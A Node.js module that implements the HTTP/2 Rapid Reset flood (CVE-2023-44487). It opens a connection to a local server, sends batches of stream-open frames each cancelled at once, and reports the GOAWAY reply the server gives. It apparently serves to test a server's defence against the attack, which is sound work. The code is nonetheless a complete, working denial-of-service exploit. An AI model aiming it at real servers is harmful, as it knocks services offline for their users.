// A flood: requests that are reset as soon as they are made, so that they cost their sender nothing (CVE-2023-44487).

import { once } from "node:events";
import { connect } from "node:net";

const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const GOAWAY = 7;
const END_STREAM_AND_HEADERS = 0x05;
const CANCEL = 8;
const codes = { 0: "NO_ERROR", 11: "ENHANCE_YOUR_CALM" };

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
/** `:method: GET`, `:scheme: http`, `:path: /` from the static table, and `:authority: a`. */
const head = Buffer.from([0x82, 0x86, 0x84, 0x41, 0x01, 0x61]);

/** Opens and resets streams until the server has had enough, or put up with 50,000; returns what its GOAWAY said. */
export async function flood(port) {
  const socket = connect({ port, host: "127.0.0.1" });
  socket.setTimeout(2_000, () => socket.destroy(new Error("the server put up with it")));
  await once(socket, "connect");
  const goAway = readGoAway(socket);
  let over = false;
  const stop = () => (over = true);
  goAway.then(stop, stop);
  socket.write(Buffer.concat([preface, frame(SETTINGS, 0, 0)]));
  const reset = uint32(CANCEL);
  for (let id = 1; !over && id < 100_000; ) {
    const frames = [];
    for (let i = 0; i < 50; i++, id += 2) {
      frames.push(frame(HEADERS, END_STREAM_AND_HEADERS, id, head), frame(RST_STREAM, 0, id, reset));
    }
    socket.write(Buffer.concat(frames));
    await new Promise(setImmediate);
  }
  const said = await goAway;
  socket.destroy();
  return said;
}

/** Reads frames until one is GOAWAY. */
async function readGoAway(socket) {
  let received = Buffer.alloc(0);
  for await (const chunk of socket) {
    received = Buffer.concat([received, chunk]);
    while (received.length >= 9 && received.length >= 9 + received.readUIntBE(0, 3)) {
      const end = 9 + received.readUIntBE(0, 3);
      const payload = received.subarray(9, end);
      if (received[3] === GOAWAY) {
        const code = payload.readUInt32BE(4);
        return { code: codes[code] ?? String(code), reason: payload.toString("latin1", 8) };
      }
      received = received.subarray(end);
    }
  }
  throw new Error("the connection was closed without GOAWAY");
}

function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

function uint32(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}
